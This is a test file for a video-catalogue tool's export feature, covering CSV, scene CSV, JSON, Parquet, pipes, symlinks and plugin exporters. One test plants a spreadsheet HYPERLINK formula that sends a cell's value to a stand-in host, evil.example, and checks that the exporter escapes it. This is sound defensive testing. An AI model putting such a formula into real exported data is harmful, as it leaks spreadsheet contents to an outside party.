import { spawn } from 'node:child_process';
import { existsSync, lstatSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects } from 'hyparquet';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Video } from '../../src/core/index.js';
import { defaultFields, selectFields, timecode, writeParquet, writeRecords, type ExportFormat } from '../../src/export/index.js';
import { SqliteStore } from '../../src/store/index.js';
import { cliArgv, repoRoot, runCli } from '../helpers/cli.js';
import { fifoReader } from '../helpers/fifo.js';
import { tempDir } from '../helpers/media.js';
import { makeRecord } from '../helpers/records.js';

const t = tempDir('videodex-export-');
afterAll(() => t.cleanup());

function withScenes(): Video {
  const v = makeRecord({ tags: [{ name: 'beach', source: 'rule' }], categories: [{ name: 'sport', source: 'ai' }] });
  v.scenes = [
    { index: 0, startSec: 0, endSec: 2.5, startFrame: 0, endFrame: 75, transition: 'start', score: 0, keyframe: '/kf/a-0.jpg', description: 'a wave, "big"' },
    { index: 1, startSec: 2.5, endSec: 3661.25, startFrame: 75, endFrame: 109837, transition: 'cut', score: 40 },
  ];
  return v;
}

async function* iter(items: Video[]) {
  yield* items;
}

async function exportText(records: Video[], format: ExportFormat, fields?: string[]): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await writeRecords(iter(records), format, out, fields ? { fields } : {});
  out.end();
  return Buffer.concat(chunks).toString('utf8');
}

describe('structured exports', () => {
  it('writes one PySceneDetect-compatible row per scene plus video id, keyframe and description', async () => {
    const v = withScenes();
    const text = await exportText([v, makeRecord()], 'scenes-csv');
    const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
    expect(Object.keys(rows[0]!).slice(0, 10)).toEqual([
      'Scene Number', 'Start Frame', 'Start Timecode', 'Start Time (seconds)', 'End Frame', 'End Timecode', 'End Time (seconds)', 'Length (frames)', 'Length (timecode)', 'Length (seconds)',
    ]);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({ 'Scene Number': '1', 'Start Frame': '1', 'Start Timecode': '00:00:00.000', 'End Frame': '75', 'End Time (seconds)': '2.500', 'Length (frames)': '75', 'Video ID': v.id, Keyframe: '/kf/a-0.jpg', Description: 'a wave, "big"' });
    expect(rows[1]).toMatchObject({ 'Start Frame': '76', 'End Timecode': '01:01:01.250', 'Length (seconds)': '3658.750', Keyframe: '', Description: '' });
    expect(timecode(59.9996)).toBe('00:01:00.000');
    const picked = parse(await exportText([v], 'scenes-csv', ['video id', 'Start Time (seconds)']), { columns: true });
    expect(picked[0]).toEqual({ 'Video ID': v.id, 'Start Time (seconds)': '0.000' });
  });

  it('scenes-csv gives each scene\'s times in the file too: the scene times plus the lead of a video that starts after its file', async () => {
    const late = withScenes();
    late.metadata!.videoStartSec = 1.5;
    const rows = parse(await exportText([late, withScenes()], 'scenes-csv'), { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => [r['Start Time (seconds)'], r['File Start Time (seconds)'], r['End Time (seconds)'], r['File End Time (seconds)']])).toEqual([
      ['0.000', '1.500', '2.500', '4.000'],
      ['2.500', '4.000', '3661.250', '3662.750'],
      ['0.000', '0.000', '2.500', '2.500'],
      ['2.500', '2.500', '3661.250', '3661.250'],
    ]);
  });

  it('writes text a spreadsheet would run as a formula with a leading quote in CSV, numbers as they are; the CLI flag and key turn it off', async () => {
    const v = withScenes();
    v.source.title = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    v.tags = [{ name: '@home', source: 'rule' }];
    v.scenes[0]!.description = '+1 for this';
    v.metadata!.rotation = -90;
    const csv = parse(await exportText([v], 'csv', ['title', 'tags', 'rotation', 'id']), { columns: true });
    expect(csv[0]).toEqual({ title: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, tags: "'@home", rotation: '-90', id: v.id });
    const scenes = parse(await exportText([v], 'scenes-csv', ['Description', 'Start Time (seconds)']), { columns: true });
    expect(scenes[0]).toEqual({ Description: "'+1 for this", 'Start Time (seconds)': '0.000' });
    // JSON is not opened by spreadsheets: kept exact
    expect(JSON.parse((await exportText([v], 'jsonl', ['title'])).trim()).title).toBe(v.source.title);
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    await writeRecords(iter([v]), 'csv', out, { fields: ['title'], escapeFormulas: false });
    expect(parse(Buffer.concat(chunks).toString('utf8'), { columns: true })[0].title).toBe(v.source.title);

    const db = path.join(t.dir, 'formulas.db');
    const store = new SqliteStore(db);
    await store.migrate();
    await store.upsert(v);
    await store.close();
    const escaped = await runCli(['export', '--db', db, '--format', 'csv', '--fields', 'title']);
    expect(escaped.code, escaped.stderr).toBe(0);
    expect(parse(escaped.stdout, { columns: true })[0].title).toBe(`'${v.source.title}`);
    const raw = await runCli(['export', '--db', db, '--format', 'csv', '--fields', 'title', '--no-escape-formulas']);
    expect(parse(raw.stdout, { columns: true })[0].title).toBe(v.source.title);
    const byEnv = await runCli(['export', '--db', db, '--format', 'csv', '--fields', 'title'], { env: { ...process.env, VIDEODEX_EXPORT_ESCAPEFORMULAS: 'false' } });
    expect(parse(byEnv.stdout, { columns: true })[0].title).toBe(v.source.title);

    // a byte-order mark only when asked (Excel needs it for text beyond ASCII; other readers take it into the
    // first column's name), for csv and scenes-csv, never for JSON
    expect(escaped.stdout.startsWith('\ufeff')).toBe(false);
    for (const format of ['csv', 'scenes-csv']) {
      const bom = await runCli(['export', '--db', db, '--format', format, '--bom']);
      expect(bom.code, bom.stderr).toBe(0);
      expect(bom.stdout.startsWith('\ufeff'), format).toBe(true);
      expect(bom.stdout.indexOf('\ufeff', 1), format).toBe(-1);
    }
    const file = path.join(t.dir, 'bom.csv');
    const byConfig = await runCli(['export', '--db', db, '--format', 'csv', '--fields', 'title', '-o', file], { env: { ...process.env, VIDEODEX_EXPORT_CSVBOM: 'true' } });
    expect(byConfig.code, byConfig.stderr).toBe(0);
    const bytes = readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parse(bytes.toString('utf8'), { columns: true, bom: true })[0].title).toBe(`'${v.source.title}`);
    expect((await runCli(['export', '--db', db, '--format', 'jsonl', '--bom'])).stdout.startsWith('{')).toBe(true);
  });

  it('picks fields for csv, json and jsonl: flat columns and record paths', async () => {
    const v = withScenes();
    const csv = parse(await exportText([v], 'csv', ['id', 'duration_sec', 'metadata.width', 'tags']), { columns: true });
    expect(csv[0]).toEqual({ id: v.id, duration_sec: '10', 'metadata.width': '1280', tags: 'beach' });
    const jsonl = JSON.parse((await exportText([v], 'jsonl', ['id', 'categories', 'ai.description'])).trim());
    expect(jsonl).toEqual({ id: v.id, categories: 'sport', 'ai.description': null });
    const json = JSON.parse(await exportText([v], 'json', ['scenes']));
    expect(json[0].scenes).toHaveLength(2);
    // a path through a key the record does not hold is empty, also where Object has a method of that name
    const inherited = await exportText([v], 'csv', ['id', 'metadata.constructor', 'extra.toString', 'scenes.0.keyframe']);
    expect(parse(inherited, { columns: true })).toEqual([{ id: v.id, 'metadata.constructor': '', 'extra.toString': '', 'scenes.0.keyframe': '/kf/a-0.jpg' }]);
    expect(JSON.parse(await exportText([v], 'jsonl', ['metadata.constructor', 'extra.__proto__']))).toEqual({ 'metadata.constructor': null, 'extra.__proto__': null });
    expect(() => selectFields(['durration'])).toThrow(/not a column or record path; columns: id, path/);
    await expect(exportText([v], 'parquet')).rejects.toThrow(/parquet needs a file/);
  });

  it('streams Parquet that a reader reads back with types', async () => {
    const file = path.join(t.dir, 'out.parquet');
    const records = Array.from({ length: 12 }, () => withScenes());
    const n = await writeParquet(iter(records), file, defaultFields(), 5);
    expect(n).toBe(12);
    const buf = await asyncBufferFromFile(file);
    const meta = await parquetMetadataAsync(buf);
    expect(meta.row_groups.length).toBe(3);
    const rows = (await parquetReadObjects({ file: buf })) as Array<Record<string, unknown>>;
    expect(rows).toHaveLength(12);
    expect(rows[0]).toMatchObject({ id: records[0]!.id, width: 1280, fps: 30, bytes: BigInt(records[0]!.file.bytes), tags: 'beach', scene_count: 2 });
    expect(rows[0]!.description).toBeNull(); // empty values are nulls in Parquet
  });
});

describe('videodex export (CLI)', () => {
  const db = path.join(t.dir, 'cli.db');
  let v: Video;
  beforeAll(async () => {
    const store = new SqliteStore(db);
    await store.migrate();
    v = withScenes();
    await store.upsert(v);
    await store.close();
  });

  it('exports the sorted, limited part of the match that --sort, --offset and --limit ask for (it used to export every match)', async () => {
    const file = path.join(t.dir, 'five.db');
    const store = new SqliteStore(file);
    await store.migrate();
    const five = [40, 10, 50, 20, 30].map((d, i) => makeRecord({ id: `five${i}`, metadata: { ...makeRecord().metadata!, durationSec: d } }));
    await store.upsertMany(five);
    await store.close();
    const r = await runCli(['export', '--format', 'jsonl', '--sort', 'duration-desc', '--offset', '1', '--limit', '2', '--db', file]);
    expect(r.code).toBe(0);
    expect(r.stdout.trim().split('\n').map((l) => (JSON.parse(l) as Video).metadata!.durationSec)).toEqual([40, 30]);
  });

  it('exports scenes-csv to stdout and parquet to a file', async () => {
    const r = await runCli(['export', '--format', 'scenes-csv', '--db', db]);
    expect(r.code).toBe(0);
    expect(parse(r.stdout, { columns: true })).toHaveLength(2);
    const file = path.join(t.dir, 'cli.parquet');
    const p = await runCli(['export', '--format', 'parquet', '--fields', 'id,height,metadata.videoCodec', '--out', file, '--db', db]);
    expect(p.code).toBe(0);
    const rows = await parquetReadObjects({ file: await asyncBufferFromFile(file) });
    expect(rows).toEqual([{ id: v.id, height: 720, 'metadata.videoCodec': 'h264' }]);
    const bad = await runCli(['export', '--format', 'parquet', '--db', db]);
    expect(bad.code).toBe(3);
    expect(bad.stderr).toMatch(/needs --out/);
    const folder = await runCli(['export', '--format', 'parquet', '--out', t.dir, '--db', db]);
    expect(folder.code).toBe(3);
    expect(folder.stderr).toBe(`videodex: export: --out ${t.dir} is a folder, not a file\n`);
    // a file where a folder of the path goes: it was a raw "EEXIST: file already exists, mkdir ..." (exit 4)
    const inTheWay = path.join(t.dir, 'cli.parquet', 'x.csv');
    const blocked = await runCli(['export', '--out', inTheWay, '--db', db]);
    expect(blocked.code).toBe(3);
    expect(blocked.stderr).toBe(`videodex: export: --out ${inTheWay}: a file is in the way of its folder ${path.join(t.dir, 'cli.parquet')}\n`);
    expect(existsSync(`${t.dir}.part`)).toBe(false);
    const badField = await runCli(['export', '--format', 'csv', '--fields', 'nope', '--db', db]);
    expect(badField.code).toBe(3);
    expect(badField.stdout).toBe('');
    expect(readFileSync(file).subarray(0, 4).toString()).toBe('PAR1');
  });

  it('writes through to what --out names when it is a named pipe or a link; a .part renamed over them replaced them with a plain file', async () => {
    const fifo = path.join(t.dir, 'pipe.csv');
    const pipe = fifoReader(fifo);
    try {
      const r = await runCli(['export', '--format', 'csv', '--fields', 'id', '--out', fifo, '--db', db]);
      expect(r.code, r.stderr).toBe(0);
      expect(lstatSync(fifo).isFIFO()).toBe(true);
      expect(await pipe.text()).toBe(`id\n${v.id}\n`);
    } finally {
      pipe.stop();
    }
    // Parquet's writer opens its file once a chunk: refused before a record is read
    const pq = await runCli(['export', '--format', 'parquet', '--out', fifo, '--db', db]);
    expect(pq.code).toBe(3);
    expect(pq.stderr).toMatch(/is not a plain file \(a device or a pipe\)/);
    expect(lstatSync(fifo).isFIFO()).toBe(true);

    const real = path.join(t.dir, 'real.csv');
    const link = path.join(t.dir, 'link.csv');
    writeFileSync(real, 'old\n');
    symlinkSync(real, link);
    const l = await runCli(['export', '--format', 'csv', '--fields', 'id', '--out', link, '--db', db]);
    expect(l.code, l.stderr).toBe(0);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(readFileSync(real, 'utf8')).toBe(`id\n${v.id}\n`);
    expect(existsSync(`${real}.part`) || existsSync(`${link}.part`)).toBe(false);
  });

  it.each([['SIGINT', 130], ['SIGTERM', 143]] as const)('an export to a file stopped by %s removes its .part and says so (the half export stayed behind)', async (signal, code) => {
    const plugin = path.join(t.dir, 'slow-plugin.mjs');
    // writes a little, then waits a minute: stopped while writing, whatever the machine's speed
    writeFileSync(plugin, `export default { name: 'slow', version: '1.0.0', exporters: [{ name: 'slow', async write(records, out) { out.write('half'); await new Promise((r) => setTimeout(r, 60000)); return 0; } }] };\n`);
    const file = path.join(t.dir, `slow-${signal}.txt`);
    const env = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('VIDEODEX_')));
    const child = spawn(process.execPath, cliArgv(['export', '--format', 'slow', '--out', file, '--db', db]), { cwd: repoRoot, stdio: ['ignore', 'ignore', 'pipe'], env: { ...env, VIDEODEX_PLUGINS_MODULES: plugin } });
    let stderr = '';
    child.stderr!.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    const closed = new Promise<number | null>((resolve) => child.on('close', (c) => resolve(c)));
    const deadline = Date.now() + 30_000;
    while (!(existsSync(`${file}.part`) && readFileSync(`${file}.part`, 'utf8') === 'half') && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
    child.kill(signal);
    expect(await closed).toBe(code);
    expect(stderr).toBe(`videodex: export stopped by ${signal}: ${file} was not written\n`);
    expect(existsSync(`${file}.part`) || existsSync(file)).toBe(false);
  });

  it('offers the exporters of loaded plugins as formats, streams to a file via .part, and removes the .part when one fails', async () => {
    const plugin = path.join(t.dir, 'ids-plugin.mjs');
    writeFileSync(
      plugin,
      `export default { name: 'ids', version: '1.0.0', exporters: [
        { name: 'ids', async write(records, out) { let n = 0; for await (const r of records) { out.write('id=' + r.id + '\\n'); n++; } return n; } },
        { name: 'broken', async write(records, out) { out.write('half'); throw new Error('disk on fire'); } },
      ] };\n`,
    );
    const env = { ...process.env, VIDEODEX_PLUGINS_MODULES: plugin };
    const toStdout = await runCli(['export', '--format', 'ids', '--db', db], { env });
    expect(toStdout.stderr).toBe('');
    expect(toStdout.stdout).toBe(`id=${v.id}\n`);
    const file = path.join(t.dir, 'out', 'ids.txt');
    const toFile = await runCli(['export', '--format', 'ids', '--out', file, '--db', db], { env });
    expect(toFile.code).toBe(0);
    expect(readFileSync(file, 'utf8')).toBe(`id=${v.id}\n`);
    expect(toFile.stderr).toMatch(/exported 1 record\(s\) to .*ids\.txt \(ids, from a plugin\)/);
    const broken = path.join(t.dir, 'out', 'broken.txt');
    const failed = await runCli(['export', '--format', 'broken', '--out', broken, '--db', db], { env });
    expect(failed.code).not.toBe(0);
    expect(failed.stderr).toMatch(/ids.*exporter broken.*disk on fire/);
    expect(existsSync(broken)).toBe(false);
    expect(existsSync(`${broken}.part`)).toBe(false);
    const unknown = await runCli(['export', '--format', 'coco', '--db', db], { env });
    expect(unknown.code).toBe(3);
    expect(unknown.stderr).toMatch(/unknown format "coco"; built-in: jsonl, json, csv, scenes-csv, parquet; from plugins: ids, broken/);
    const none = await runCli(['export', '--format', 'coco', '--db', db]);
    expect(none.stderr).toMatch(/from plugins: none loaded/);
  });
});
